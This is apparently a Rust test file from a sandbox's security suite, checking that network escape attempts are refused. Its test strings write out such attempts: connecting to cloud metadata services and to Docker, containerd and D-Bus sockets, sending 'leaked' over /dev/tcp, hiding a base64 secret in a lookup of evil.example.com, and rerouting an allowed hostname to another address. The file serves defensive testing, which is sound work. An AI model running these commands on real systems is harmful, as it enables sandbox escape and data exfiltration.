//! Section D of the attacks: the network. The oracle is a listener on all addresses of the host, which must hear
//! nothing.

use skep_tests::Outcome;
use skep_tests::attack::Oracle::{Heard, Says};
use skep_tests::attack::{Attack, Control};

const NETWORK: &[&str] = &["network namespace", "connect hooks"];
const FILTER: &[&str] = &["seccomp"];
const ALLOWED: &str = "api.anthropic.com";

/// A control for an address nobody has: a network of its own, in which somebody has it and is reached.
macro_rules! where_it_answers {
    ($address:literal, $port:literal) => {
        Control::Like(concat!(
            "export ATTACK; unshare -n bash -c 'ip link set lo up; ip address add ",
            $address,
            " dev lo; ",
            "python3 -m http.server ",
            $port,
            " --bind ",
            $address,
            " > /dev/null 2>&1 & server=$!; ",
            "for i in $(seq 100); do $ATTACK tcp ",
            $address,
            ":",
            $port,
            " | grep DONE && break; sleep 0.1; done; ",
            "kill $server'",
        ))
    };
}

#[test]
fn an_address_nobody_allowed_is_refused() -> Outcome {
    Attack::new(85, "TCP to an address of the host", "$ATTACK tcp $HOST:$PORT", Heard).layers(NETWORK).run()
}

#[test]
fn a_refused_address_does_not_look_reachable() -> Outcome {
    let attempt = "$ATTACK tcp $HOST:$PORT 192.0.2.1:443 1.1.1.1:80 [2001:db8::1]:443";
    Attack::new(85, "a handshake with a denied address", attempt, Says("DONE"))
        .control(Control::Like("$ATTACK tcp $HOST:$PORT; echo DONE"))
        .layers(NETWORK)
        .run()
}

#[test]
fn a_refusal_is_recorded_with_its_destination() -> Outcome {
    Attack::new(85, "the record of a refused connection", "$ATTACK tcp 192.0.2.77:4321", Says("DONE"))
        .control(where_it_answers!("192.0.2.77", "4321"))
        .denial(&["192.0.2.77", "4321"])
        .layers(NETWORK)
        .run()
}

#[test]
fn metadata_services_are_refused() -> Outcome {
    let attempt = "$ATTACK tcp 169.254.169.254:80 [fd00:ec2::254]:80 100.100.100.200:80 169.254.170.2:80; \
                   curl -sS -m 3 http://metadata.google.internal/ && echo DONE";
    Attack::new(87, "addresses of metadata services", attempt, Says("DONE"))
        .control(where_it_answers!("169.254.169.254", "80"))
        .denial(&["169.254.169.254"])
        .layers(NETWORK)
        .run()
}

#[test]
fn services_on_loopback_are_out_of_reach() -> Outcome {
    let attempt = "$ATTACK tcp 127.0.0.1:$PORT [::1]:$PORT 0.0.0.0:$PORT [::]:$PORT 127.1.2.3:$PORT \
                   [::ffff:127.0.0.1]:$PORT";
    Attack::new(88, "services on the host's loopback", attempt, Heard).layers(NETWORK).run()
}

#[test]
fn services_on_the_hosts_addresses_are_out_of_reach() -> Outcome {
    let attempt = "$ATTACK tcp $HOST:$PORT [::ffff:$HOST]:$PORT 172.17.0.1:$PORT; \
                   for n in host.docker.internal $(uname -n) localhost; do curl -s -m 3 http://$n:$PORT/; done";
    Attack::new(88, "services on the host's addresses and names", attempt, Heard).layers(NETWORK).run()
}

#[test]
fn datagrams_do_not_leave() -> Outcome {
    let attempt = "$ATTACK udp 127.0.0.1:$PORT [::1]:$PORT $HOST:$PORT 255.255.255.255:$PORT 224.0.0.251:5353 \
                   239.255.255.250:1900 [ff02::1]:$PORT; sleep 0.2";
    Attack::new(90, "UDP, broadcast and multicast", attempt, Heard).layers(NETWORK).run()
}

#[test]
fn names_nobody_allowed_are_not_resolved() -> Outcome {
    let attempt =
        "for n in c2VjcmV0.evil.example.com evil.example.org; do getent hosts $n && echo RESOLVED; done";
    Attack::new(91, "secrets in names", attempt, Says("RESOLVED"))
        .control(Control::Inside("getent hosts api.anthropic.com && echo RESOLVED"))
        .denial(&["evil.example.com"])
        .layers(&["gateway"])
        .run()
}

#[test]
fn other_resolvers_are_refused() -> Outcome {
    let attempt = "$ATTACK tcp 1.1.1.1:853 1.1.1.1:443 8.8.8.8:53 9.9.9.9:853 [2606:4700:4700::1111]:443";
    Attack::new(92, "DNS over TCP, TLS and HTTPS", attempt, Says("DONE"))
        .control(where_it_answers!("1.1.1.1", "853"))
        .layers(NETWORK)
        .run()
}

#[test]
fn sockets_below_tcp_are_refused() -> Outcome {
    Attack::new(93, "raw, ping and packet sockets", "$ATTACK raw", Says("DONE")).layers(FILTER).run()
}

#[test]
fn an_allowed_name_does_not_open_other_ports() -> Outcome {
    let attempt = "for p in 22 25 80 2375 4430 8443; do \
                   timeout 3 bash -c \"exec 3<> /dev/tcp/api.anthropic.com/$p; echo leaked >&3; cat <&3\"; done; \
                   curl -s -m 3 http://api.anthropic.com/ -H 'Host: a' -H 'Transfer-Encoding: chunked' -d 0";
    Attack::new(100, "odd ports of an allowed name", attempt, Heard)
        .upstream(ALLOWED)
        .control(Control::Inside("timeout 3 bash -c 'echo > /dev/tcp/api.anthropic.com/443'"))
        .denial(&["api.anthropic.com:2375"])
        .layers(&["gateway", "connect hooks"])
        .run()
}

#[test]
fn a_port_no_rule_opens_does_not_look_reachable() -> Outcome {
    let attempt = "timeout 3 bash -c 'exec 3<> /dev/tcp/api.anthropic.com/2375 && echo DONE'";
    Attack::new(100, "a handshake on an odd port", attempt, Says("DONE"))
        .upstream(ALLOWED)
        .control(Control::Inside("timeout 3 bash -c 'exec 3<> /dev/tcp/api.anthropic.com/443 && echo DONE'"))
        .denial(&["api.anthropic.com:2375", "EPERM"])
        .layers(&["connect hooks"])
        .run()
}

#[test]
fn a_name_and_its_address_are_not_taken_apart() -> Outcome {
    let attempt = "curl -sk -m 3 --connect-to ::$HOST:$PORT https://api.anthropic.com/; \
                   curl -sk -m 3 --resolve api.anthropic.com:$PORT:$HOST https://api.anthropic.com:$PORT/; \
                   curl -sk -m 3 --connect-to ::evil.example.com:443 https://api.anthropic.com/";
    Attack::new(94, "the name of an allowed host, the address of another", attempt, Heard)
        .denial(&["evil.example.com"])
        .layers(NETWORK)
        .run()
}

#[test]
fn a_direct_socket_is_refused_without_any_proxy() -> Outcome {
    let attempt = "env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy curl -s -m 3 --noproxy '*' \
                   http://$HOST:$PORT/; bash -c \"echo leaked > /dev/tcp/$HOST/$PORT\"";
    Attack::new(102, "a socket that ignores proxy variables", attempt, Heard).layers(NETWORK).run()
}

#[test]
fn a_listener_inside_is_not_reached_from_the_host() -> Outcome {
    let listen = "import socket, sys; s = socket.create_server(('0.0.0.0', 0)); \
                  open('port', 'w').write(str(s.getsockname()[1])); s.settimeout(3); \
                  print('REACHED', s.accept())";
    // The host knocks while the attempt listens: the wrapping script runs outside.
    Attack::new(104, "listen for the host", "python3 -c \"$(cat $WS/listen.py)\"", Says("REACHED"))
        .prepare(Box::leak(format!("cat > listen.py <<'EOF'\n{listen}\nEOF\n").into_boxed_str()))
        .wrap(
            "( for i in $(seq 40); do sleep 0.1; test -s port && \
             timeout 1 bash -c \"echo > /dev/tcp/127.0.0.1/$(cat port)\" && break; done ) 2>/dev/null & \"$@\"",
        )
        .layers(&["network namespace"])
        .run()
}

#[test]
fn no_vsock_is_made() -> Outcome {
    Attack::new(105, "AF_VSOCK, which a network namespace does not isolate", "$ATTACK vsock", Says("DONE"))
        .control(Control::None("never touched outside: on a virtual machine it reaches the hypervisor"))
        .layers(FILTER)
        .run()
}

#[test]
fn netlink_is_for_routes_only() -> Outcome {
    Attack::new(106, "netlink protocols", "$ATTACK netlink", Says("DONE")).layers(FILTER).run()
}

#[test]
fn odd_families_are_refused() -> Outcome {
    Attack::new(107, "socket families and protocols", "$ATTACK families", Says("DONE")).layers(FILTER).run()
}

#[test]
fn abstract_sockets_of_the_host_are_not_seen() -> Outcome {
    Attack::new(108, "a unix socket by an abstract name", "$ATTACK abstract $MARK", Heard)
        .layers(&["network namespace"])
        .run()
}

#[test]
fn sockets_of_the_host_are_not_reached_by_path() -> Outcome {
    let attempt = "$ATTACK unix $OUT/socket; cd $OUT && $ATTACK unix socket; $ATTACK unix /proc/1/root$OUT/socket; \
                   ln -s $OUT/socket $WS/s; $ATTACK unix $WS/s";
    Attack::new(109, "a unix socket by its path", attempt, Heard).layers(&["mount namespace"]).run()
}

#[test]
#[ignore = "issue 4: who listens at a path is for the path judge to see"]
fn a_socket_of_the_host_in_the_workspace_is_not_reached() -> Outcome {
    let listen = "import socket; s = socket.socket(socket.AF_UNIX); s.bind('socket'); s.listen(); s.accept(); \
                  open('reached', 'w')";
    let prepare = format!(
        "setsid python3 -c \"{listen}\" > /dev/null 2>&1 < /dev/null & \
                           until test -S socket; do sleep 0.05; done; chmod 666 socket"
    );
    Attack::new(
        109,
        "a socket that a process outside opened in the workspace",
        "$ATTACK unix socket",
        REACHED,
    )
    .prepare(Box::leak(prepare.into_boxed_str()))
    .layers(&["path judge"])
    .run()
}

const REACHED: skep_tests::attack::Oracle =
    skep_tests::attack::Oracle::Effect("sleep 0.2; test -e $WS/reached");

#[test]
fn services_of_the_host_are_not_reached_by_path() -> Outcome {
    let attempt = "for s in /run/docker.sock /var/run/docker.sock /run/containerd/containerd.sock \
                   /run/podman/podman.sock /run/dbus/system_bus_socket /run/systemd/private /tmp/.X11-unix/X0 \
                   /run/skep/skepd.sock $WS/../run/skepd.sock; do \
                   $ATTACK unix $s | sed \"s#^DONE#DONE $s#\"; done";
    Attack::new(109, "sockets of daemons, our own among them", attempt, Says("DONE"))
        .control(Control::Like("$ATTACK unix $OUT/socket"))
        .layers(&["mount namespace"])
        .run()
}

#[test]
fn no_socket_is_inherited() -> Outcome {
    let attempt = "for n in 3 5 8 9 255; do (echo leaked >&$n) 2>/dev/null; done; $ATTACK descriptors /none";
    Attack::new(111, "speak into an inherited socket", attempt, Says("DONE"))
        .wrap("exec 8<> /dev/udp/127.0.0.1/9; LISTEN_FDS=1 LISTEN_PID=$$ \"$@\"")
        .layers(&["close-on-exec", "close_range before exec"])
        .run()
}
